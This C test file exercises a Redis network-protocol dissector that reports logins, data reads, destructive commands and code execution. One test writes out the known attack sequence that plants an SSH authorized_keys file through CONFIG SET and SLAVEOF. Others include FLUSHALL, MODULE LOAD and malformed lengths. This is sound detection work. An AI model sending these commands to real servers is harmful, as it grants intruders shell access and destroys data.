/* SPDX-License-Identifier: ISC */
/* Redis: who is it, who was let in, what was done. Bytes as redis-server 7 and 6 send them. */
#include "tests/unit/conversation.h"

extern const struct dissector redis_dissector;

/* Arrays in arrays. */
#define DEEP "*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n"

static struct facts facts_of(const struct turn *turns, size_t count)
{
	struct facts facts = conversation_read(&redis_dissector, turns, count, "redis");

	assert_int_equal(facts.encryption, ENCRYPTION_CLEARTEXT);
	return facts;
}

static void an_open_server_is_seen(void **state)
{
	static const struct turn turns[] = {
		TURN_CLIENT("*1\r\n$4\r\nINFO\r\n"),
		TURN_SERVER("$68\r\n# Server\r\nredis_version:7.0.15\r\nredis_git_sha1:00000000\r\n"
			    "os:Linux 6.1\r\n\r\n"),
		TURN_CLIENT("*2\r\n$4\r\nKEYS\r\n$1\r\n*\r\n*2\r\n$3\r\nGET\r\n$1\r\na\r\n"),
		TURN_SERVER("*2\r\n$1\r\na\r\n$1\r\nb\r\n$5\r\nhello\r\n"),
		TURN_CLIENT("*1\r\n$8\r\nflushall\r\n"),
		TURN_SERVER("+OK\r\n"),
	};
	struct facts facts = facts_of(turns, COUNT(turns));

	(void)state;
	assert_int_equal(facts.auth, AUTH_NONE);
	assert_int_equal(facts.data_read, ANSWER_YES);
	assert_string_equal(facts.product, "Redis");
	assert_string_equal(facts.version, "7.0.15");
	conversation_has(&facts, "INFO", ANSWER_YES, 0);
	conversation_has(&facts, "KEYS", ANSWER_YES, COMMAND_LISTING);
	conversation_has(&facts, "FLUSHALL", ANSWER_YES, COMMAND_DESTRUCTIVE);
}

static void a_log_in_is_seen(void **state)
{
	static const struct turn turns[] = {
		TURN_CLIENT("*1\r\n$4\r\nPING\r\n"),
		TURN_SERVER("-NOAUTH Authentication required.\r\n"),
		TURN_CLIENT("*3\r\n$4\r\nAUTH\r\n$5\r\nalice\r\n$6\r\nsecr3t\r\n"),
		TURN_SERVER("-WRONGPASS invalid username-password pair or user is disabled.\r\n"),
		TURN_CLIENT("*3\r\n$4\r\nAUTH\r\n$5\r\nalice\r\n$7\r\nsecr3t2\r\n"),
		TURN_SERVER("+OK\r\n"),
		TURN_CLIENT("*2\r\n$3\r\nGET\r\n$1\r\nx\r\n"),
		TURN_SERVER("$-1\r\n"),
	};
	struct facts facts = facts_of(turns, COUNT(turns));

	(void)state;
	assert_int_equal(facts.auth, AUTH_SUCCEEDED);
	assert_int_equal(facts.logins_failed, 1);
	assert_int_equal(facts.logins_succeeded, 1);
	assert_string_equal(facts.user, "alice");
	assert_int_equal(facts.data_read, ANSWER_NO);
	conversation_has(&facts, "PING", ANSWER_NO, 0);
	conversation_lacks(&facts, "secr3t");
}

static void a_password_alone_is_no_user(void **state)
{
	static const struct turn turns[] = {
		TURN_CLIENT("AUTH hunter2\r\n"),
		TURN_SERVER("-WRONGPASS invalid username-password pair or user is disabled.\r\n"),
		TURN_CLIENT("KEYS *\r\n"),
		TURN_SERVER("-NOAUTH Authentication required.\r\n"),
	};
	struct facts facts = facts_of(turns, COUNT(turns));

	(void)state;
	assert_int_equal(facts.auth, AUTH_FAILED);
	assert_string_equal(facts.user, "");
	conversation_lacks(&facts, "hunter2");
	conversation_has(&facts, "KEYS", ANSWER_NO, COMMAND_LISTING);
}

static void hello_is_read(void **state)
{
	static const struct turn turns[] = {
		TURN_CLIENT(
			"*5\r\n$5\r\nHELLO\r\n$1\r\n3\r\n$4\r\nAUTH\r\n$3\r\nbob\r\n$2\r\npw\r\n"),
		TURN_SERVER("%3\r\n$6\r\nserver\r\n$5\r\nredis\r\n$7\r\nversion\r\n$5\r\n7.2.4\r\n"
			    "$5\r\nproto\r\n:3\r\n"),
		TURN_CLIENT("*2\r\n$7\r\nHGETALL\r\n$1\r\nh\r\n"),
		TURN_SERVER("%1\r\n+k\r\n|1\r\n+ttl\r\n:3600\r\n*2\r\n:1\r\n_\r\n"),
	};
	struct facts facts = facts_of(turns, COUNT(turns));

	(void)state;
	assert_int_equal(facts.auth, AUTH_SUCCEEDED);
	assert_string_equal(facts.user, "bob");
	assert_string_equal(facts.version, "7.2.4");
	assert_int_equal(facts.data_read, ANSWER_YES);
	conversation_has(&facts, "HGETALL", ANSWER_YES, COMMAND_LISTING);
}

static void protected_mode_is_seen(void **state)
{
	static const struct turn turns[] = {
		TURN_SERVER("-DENIED Redis is running in protected mode because protected mode is "
			    "enabled and no password is set for the default user.\r\n"),
	};
	struct facts facts = facts_of(turns, COUNT(turns));

	(void)state;
	assert_int_equal(facts.auth, AUTH_NA);
	assert_int_equal(facts.data_read, ANSWER_NO);
}

static void a_server_without_a_password_is_seen(void **state)
{
	static const struct turn turns[] = {
		TURN_CLIENT("*2\r\n$4\r\nAUTH\r\n$3\r\nfoo\r\n"),
		TURN_SERVER("-ERR AUTH <password> called without any password configured for the "
			    "default user. Are you sure your configuration is correct?\r\n"),
	};
	struct facts facts = facts_of(turns, COUNT(turns));

	(void)state;
	assert_int_equal(facts.auth, AUTH_NONE);
	assert_int_equal(facts.logins_failed, 0);
}

/* The usual way to a shell: write an authorized_keys file. */
static void an_attack_is_read(void **state)
{
	static const struct turn turns[] = {
		TURN_CLIENT("CONFIG SET dir /root/.ssh\r\nCONFIG SET dbfilename authorized_keys\r\n"
			    "CONFIG SET timeout 0\r\nSLAVEOF 192.0.2.1 6379\r\nSLAVEOF NO ONE\r\n"
			    "CONFIG GET dir\r\n"),
		TURN_SERVER("+OK\r\n-ERR CONFIG SET failed\r\n+OK\r\n+OK\r\n+OK\r\n"
			    "*2\r\n$3\r\ndir\r\n$5\r\n/root\r\n"),
	};
	struct facts facts = facts_of(turns, COUNT(turns));

	(void)state;
	conversation_has(&facts, "CONFIG SET DIR", ANSWER_YES, COMMAND_EXECUTES);
	conversation_has(&facts, "CONFIG SET DBFILENAME", ANSWER_NO, COMMAND_EXECUTES);
	conversation_has(&facts, "CONFIG SET TIMEOUT", ANSWER_YES, 0);
	conversation_has(&facts, "SLAVEOF", ANSWER_YES, COMMAND_DESTRUCTIVE | COMMAND_EXECUTES);
	conversation_has(&facts, "REPLICAOF NO ONE", ANSWER_YES, 0);
	conversation_has(&facts, "CONFIG GET", ANSWER_YES, COMMAND_LISTING);
	conversation_lacks(&facts, "/root");
}

static void code_that_runs_is_seen(void **state)
{
	static const struct turn turns[] = {
		TURN_CLIENT("*3\r\n$4\r\neVaL\r\n$8\r\nreturn 1\r\n$1\r\n0\r\n"
			    "FCALL f 0\r\nFUNCTION LIST\r\nfunction load x\r\nSCRIPT LOAD x\r\n"
			    "MODULE LOAD /tmp/x.so\r\nEVALSHA abc 0\r\nDEBUG OBJECT a\r\n"
			    "DEBUG RELOAD\r\nBGSAVE\r\n"),
		TURN_SERVER(":1\r\n-ERR Function not found\r\n*0\r\n$1\r\nx\r\n$1\r\na\r\n"
			    "-ERR MODULE command not allowed.\r\n-NOSCRIPT No matching script.\r\n"
			    "+Value at:0x7f\r\n+OK\r\n+Background saving started\r\n"),
		TURN_CLIENT("CONFIG SET hz 10 timeout 0 maxmemory 0 tcp-keepalive 9 dir /root\r\n"
			    "SAVE\r\n"),
		TURN_SERVER("+OK\r\n+OK\r\n"),
	};
	struct facts facts = facts_of(turns, COUNT(turns));

	(void)state;
	conversation_has(&facts, "EVAL", ANSWER_YES, COMMAND_EXECUTES);
	conversation_has(&facts, "FCALL", ANSWER_NO, COMMAND_EXECUTES);
	conversation_has(&facts, "FUNCTION LIST", ANSWER_YES, 0);
	conversation_has(&facts, "FUNCTION LOAD", ANSWER_YES, COMMAND_EXECUTES);
	conversation_has(&facts, "MODULE LOAD", ANSWER_NO, COMMAND_EXECUTES);
	conversation_has(&facts, "EVALSHA", ANSWER_NO, COMMAND_EXECUTES);
	conversation_has(&facts, "DEBUG OBJECT", ANSWER_YES, 0);
	conversation_has(&facts, "DEBUG RELOAD", ANSWER_YES, COMMAND_EXECUTES);
	conversation_has(&facts, "BGSAVE", ANSWER_YES, 0);
	conversation_has(&facts, "CONFIG SET DIR", ANSWER_YES, COMMAND_EXECUTES);
	conversation_has(&facts, "SAVE", ANSWER_YES, COMMAND_EXECUTES);
	conversation_lacks(&facts, "return");
}

/* What was queued counts by its element of the answer to EXEC. */
static void a_transaction_is_read(void **state)
{
	static const struct turn turns[] = {
		TURN_CLIENT("*1\r\n$5\r\nMULTI\r\nEVAL x 0\r\nGET a\r\nFLUSHALL\r\nEXEC\r\n"),
		TURN_SERVER("+OK\r\n+QUEUED\r\n+QUEUED\r\n+QUEUED\r\n"
			    "*3\r\n-ERR no\r\n*2\r\n:1\r\n-ERR inner\r\n+OK\r\n"),
		TURN_CLIENT("MULTI\r\nFLUSHDB\r\nDISCARD\r\nMULTI\r\nSHUTDOWN\r\nEXEC\r\n"),
		TURN_SERVER("+OK\r\n+QUEUED\r\n+OK\r\n+OK\r\n-NOPERM\r\n"
			    "-EXECABORT Transaction discarded\r\n"),
	};
	struct facts facts = facts_of(turns, COUNT(turns));

	(void)state;
	conversation_has(&facts, "EVAL", ANSWER_NO, COMMAND_EXECUTES);
	conversation_has(&facts, "GET", ANSWER_YES, COMMAND_LISTING);
	conversation_has(&facts, "FLUSHALL", ANSWER_YES, COMMAND_DESTRUCTIVE);
	conversation_has(&facts, "FLUSHDB", ANSWER_NO, COMMAND_DESTRUCTIVE);
	conversation_has(&facts, "SHUTDOWN", ANSWER_NO, COMMAND_DESTRUCTIVE);
}

static void replies_that_are_switched_off_do_not_count(void **state)
{
	static const struct turn turns[] = {
		TURN_CLIENT(
			"CLIENT REPLY OFF\r\nFLUSHDB\r\nCLIENT REPLY ON\r\nCLIENT REPLY SKIP\r\n"
			"SET a b\r\nGET a\r\n"),
		TURN_SERVER("+OK\r\n$1\r\nb\r\n"),
	};
	struct facts facts = facts_of(turns, COUNT(turns));

	(void)state;
	conversation_has(&facts, "FLUSHDB", ANSWER_UNKNOWN, COMMAND_DESTRUCTIVE);
	conversation_has(&facts, "SET", ANSWER_UNKNOWN, 0);
	conversation_has(&facts, "GET", ANSWER_YES, COMMAND_LISTING);
}

static void messages_are_no_replies(void **state)
{
	static const struct turn turns[] = {
		TURN_CLIENT("*2\r\n$9\r\nSUBSCRIBE\r\n$2\r\nch\r\n"),
		TURN_SERVER("*3\r\n$9\r\nsubscribe\r\n$2\r\nch\r\n:1\r\n"),
		TURN_CLIENT("*1\r\n$4\r\nPING\r\n*1\r\n$7\r\nFLUSHDB\r\n"),
		TURN_SERVER("*3\r\n$7\r\nmessage\r\n$2\r\nch\r\n$2\r\nhi\r\n"
			    "*2\r\n$4\r\npong\r\n$0\r\n\r\n-ERR only (P)SUBSCRIBE allowed\r\n"),
	};
	struct facts facts = facts_of(turns, COUNT(turns));

	(void)state;
	assert_int_equal(facts.data_read, ANSWER_YES);
	conversation_has(&facts, "PING", ANSWER_YES, 0);
	conversation_has(&facts, "FLUSHDB", ANSWER_NO, COMMAND_DESTRUCTIVE);
}

/* More commands at once than the queue holds: what is told about the rest is nothing. */
static void a_deep_pipeline_is_survived(void **state)
{
	enum { COMMANDS = 200 };
	static const char command[] = "*1\r\n$4\r\nPING\r\n", last[] = "*1\r\n$8\r\nFLUSHALL\r\n";
	char client[COMMANDS * sizeof command + sizeof last], server[COMMANDS * 7 + 20];
	size_t client_length = 0, server_length = 0;
	struct facts facts;

	(void)state;
	for (int i = 0; i < COMMANDS; i++) {
		memcpy(client + client_length, command, sizeof command - 1);
		client_length += sizeof command - 1;
		memcpy(server + server_length, "+PONG\r\n", 7);
		server_length += 7;
	}
	memcpy(client + client_length, last, sizeof last - 1);
	client_length += sizeof last - 1;
	memcpy(server + server_length, "-ERR no\r\n", 9);
	server_length += 9;

	struct turn turns[] = {{SIDE_CLIENT, client, client_length},
			       {SIDE_SERVER, server, server_length},
			       TURN_CLIENT("*1\r\n$7\r\nFLUSHDB\r\n"),
			       TURN_SERVER("+OK\r\n")};

	assert_true(dissect(&redis_dissector, turns, COUNT(turns), 0, &facts));
	conversation_has(&facts, "FLUSHALL", ANSWER_UNKNOWN, COMMAND_DESTRUCTIVE);
	conversation_has(&facts, "FLUSHDB", ANSWER_YES, COMMAND_DESTRUCTIVE);
}

/* The capture has a hole in a value of known length, and one of unknown length. */
static void it_resynchronises_after_a_gap(void **state)
{
	static const struct turn turns[] = {
		TURN_CLIENT("*2\r\n$3\r\nGET\r\n$1\r\na\r\n"),
		TURN_SERVER("$4000000\r\nabc"),
		TURN_GAP(SIDE_SERVER, 3999997),
		TURN_SERVER("\r\n"),
		TURN_CLIENT("*2\r\n$3\r\nGET\r\n$1\r\nb\r\n"),
		TURN_SERVER("*1\r\n$7\r\nab"),
		TURN_GAP(SIDE_SERVER, 0),
		TURN_SERVER("+OK\r\n"),
		TURN_CLIENT("*1\r\n$7\r\nFLUSHDB\r\n"),
		TURN_SERVER("-NOPERM no\r\n"),
	};
	struct facts facts = conversation_facts(&redis_dissector, turns, COUNT(turns), 0);

	(void)state;
	assert_int_equal(facts.data_read, ANSWER_YES);
	conversation_has(&facts, "FLUSHDB", ANSWER_NO, COMMAND_DESTRUCTIVE);
}

static void midstream_it_may_be_logged_in(void **state)
{
	static const struct turn turns[] = {
		TURN_GAP(SIDE_CLIENT, 0),
		TURN_CLIENT("*2\r\n$3\r\nGET\r\n$1\r\na\r\n"),
		TURN_SERVER("$1\r\nx\r\n"),
	};
	struct facts facts = conversation_facts(&redis_dissector, turns, COUNT(turns), 0);

	(void)state;
	assert_int_equal(facts.auth, AUTH_UNKNOWN);
	assert_int_equal(facts.data_read, ANSWER_YES);
}

static void hostile_lengths_are_survived(void **state)
{
	static const char *const replies[] = {
		"*2147483648\r\n", "*99999999999999999999\r\n",
		"$-2\r\n",	   "$999999999999\r\n",
		"*-5\r\n",	   "%1073741824\r\n",
		"$\r\n",	   "*\r\n",
		"|-1\r\n+OK\r\n",  DEEP "*1\r\n*1\r\n*1\r\n:1\r\n",
	};

	(void)state;
	for (size_t i = 0; i < COUNT(replies); i++) {
		struct turn turns[] = {TURN_CLIENT("*1\r\n$7\r\nFLUSHDB\r\n"),
				       {SIDE_SERVER, replies[i], strlen(replies[i])},
				       TURN_SERVER("+OK\r\n")};
		struct facts facts = conversation_facts(&redis_dissector, turns, COUNT(turns), 0);

		if (i != 8) /* an attribute without elements may precede a reply */
			conversation_has(&facts, "FLUSHDB", ANSWER_UNKNOWN, COMMAND_DESTRUCTIVE);
		conversation_damage(&redis_dissector, turns, COUNT(turns));
	}
}

static enum recognised recognise(const char *client, const char *server, bool one_sided)
{
	return dissect_recognise(&redis_dissector, OVER_TCP, client, strlen(client), server,
				 strlen(server), one_sided);
}

static void openings_are_recognised(void **state)
{
	(void)state;
	assert_int_equal(recognise("", "-NOAUTH Authentication required.\r\n", false),
			 RECOGNISED_YES);
	assert_int_equal(recognise("", "$12\r\n# Server\r\nab\r\n", false), RECOGNISED_YES);
	assert_int_equal(recognise("PING\r\n", "+PONG\r\n", false), RECOGNISED_YES);
	assert_int_equal(recognise("PING\r\n", "+", false), RECOGNISED_MORE);
	assert_int_equal(recognise("PING\r\n", "PONG\r\n", false), RECOGNISED_NO); /* NATS */
	assert_int_equal(recognise("PING\r\n", "", true), RECOGNISED_MORE);
	assert_int_equal(recognise("*1\r\n$4\r\nPING\r\n", "", false), RECOGNISED_MORE);
	assert_int_equal(recognise("*1\r\n$4\r\nPING\r\n", "", true), RECOGNISED_YES);
	assert_int_equal(recognise("*1\r\n$4\r\nPING\r\n", "SSH-2.0-x\r\n", true), RECOGNISED_NO);
	assert_int_equal(recognise("GET / HTTP/1.1\r\nHost: a\r\n\r\n",
				   "-ERR wrong number of arguments for 'get' command\r\n", false),
			 RECOGNISED_YES);
	assert_int_equal(recognise("USER a\r\n", "+OK\r\n", false), RECOGNISED_NO);
	assert_int_equal(recognise("AUTH PLAIN\r\n", "+OK\r\n", false), RECOGNISED_NO);
	assert_int_equal(recognise("", "+OK POP3 ready\r\n", true), RECOGNISED_MORE);
	assert_int_equal(recognise("USER a\r\n", "+OK POP3 ready\r\n", true), RECOGNISED_NO);
}

static struct facts answered(const char *info)
{
	char reply[512];
	struct turn turns[2] = {TURN_CLIENT("*1\r\n$4\r\nINFO\r\n")};
	struct facts facts;

	snprintf(reply, sizeof reply, "$%zu\r\n%s\r\n", strlen(info), info);
	turns[1] = (struct turn){SIDE_SERVER, reply, strlen(reply)};
	assert_true(dissect(&redis_dissector, turns, 2, 1, &facts));
	return facts;
}

static void those_who_speak_it_have_names_of_their_own(void **state)
{
	static const struct {
		const char *info, *service, *product, *version;
	} rows[] = {
		{"redis_version:7.2.4\r\nos:Linux", "redis", "Redis", "7.2.4"},
		{"redis_version:7.2.4\r\nserver_name:valkey\r\nvalkey_version:8.0.1", "valkey",
		 "Valkey", "8.0.1"},
		{"redis_version:6.3.4\r\nexecutable:/usr/bin/keydb-server", "keydb", "KeyDB",
		 "6.3.4"},
		{"redis_version:7.2.0\r\ndragonfly_version:df-v1.15.1", "dragonfly", "Dragonfly",
		 "1.15.1"},
		{"kvrocks_version:2.8.0\r\nredis_version:4.0.0", "kvrocks", "Kvrocks", "2.8.0"},
	};
	static const struct turn hello[] = {
		TURN_CLIENT("*2\r\n$5\r\nHELLO\r\n$1\r\n3\r\n"),
		TURN_SERVER(
			"%2\r\n$6\r\nserver\r\n$6\r\nvalkey\r\n$7\r\nversion\r\n$5\r\n8.0.1\r\n"),
	};
	struct facts facts;

	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		facts = answered(rows[i].info);
		assert_string_equal(facts.service->name, rows[i].service);
		assert_string_equal(facts.product, rows[i].product);
		assert_string_equal(facts.version, rows[i].version);
		if (i != 0)
			assert_string_equal(facts.service->also[0], "redis");
	}
	assert_true(dissect(&redis_dissector, hello, 2, 1, &facts));
	assert_string_equal(facts.service->name, "valkey");
	assert_string_equal(facts.version, "8.0.1");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(those_who_speak_it_have_names_of_their_own),
		cmocka_unit_test(an_open_server_is_seen),
		cmocka_unit_test(a_log_in_is_seen),
		cmocka_unit_test(a_password_alone_is_no_user),
		cmocka_unit_test(hello_is_read),
		cmocka_unit_test(protected_mode_is_seen),
		cmocka_unit_test(a_server_without_a_password_is_seen),
		cmocka_unit_test(an_attack_is_read),
		cmocka_unit_test(code_that_runs_is_seen),
		cmocka_unit_test(a_transaction_is_read),
		cmocka_unit_test(replies_that_are_switched_off_do_not_count),
		cmocka_unit_test(messages_are_no_replies),
		cmocka_unit_test(a_deep_pipeline_is_survived),
		cmocka_unit_test(it_resynchronises_after_a_gap),
		cmocka_unit_test(midstream_it_may_be_logged_in),
		cmocka_unit_test(hostile_lengths_are_survived),
		cmocka_unit_test(openings_are_recognised),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
